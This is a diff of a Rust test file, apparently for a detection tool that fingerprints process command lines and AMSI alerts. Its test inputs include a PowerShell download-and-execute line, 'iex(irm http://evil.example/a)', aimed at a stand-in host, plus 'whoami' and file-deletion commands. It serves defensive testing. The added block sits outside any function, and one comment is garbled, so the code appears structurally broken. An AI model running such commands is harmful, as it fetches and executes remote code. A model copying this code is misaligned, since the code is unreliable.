@@ -145,6 +145,23 @@ fn the_commands_of_defenders_list_are_looked_through() {
     let running = alert(&found("process:_pid:4692,ProcessStart:1"));
     assert_eq!(running.actors().files, ["process:_pid:4692,ProcessStart:1"]);
 }
+    let keys = |one: &str, other: &str| {
+        let of = |list: &str| alert(&found(list)).fingerprint();
+        let [one, other] = [of(one), of(other)];
+        (one.key, one.distinct) == (other.key, other.distinct)
+    };
+    let start = "CmdLine:_C:\\\\p.exe -c whoami; zz:_; ";
+    for other in ["iex(irm http://evil.example/a)", "CmdLine:_rm C:\\\\x", "amsi:_x"] {
+        assert!(
+            !keys(&format!("{start}rm C:\\\\x"), &format!("{start}{other}")),
+            "{other}"
+        );
+    }
+    // All of it is shown, and what is no file behind the files.
+    let all = alert(&found(
+        "CmdLine:_a.exe; CmdLine:_b.exe; amsi:_C:\\\\p.exe; file:_C:\\\\a.ps1",
+    ));
+    assert_eq!(all.actors().files, [r"C:\a.ps1", "CmdLine:_b.exe", r"amsi:_C:\p.exe"]);
 
 #[test]
 fn each_address_of_a_list_is_an_end() {
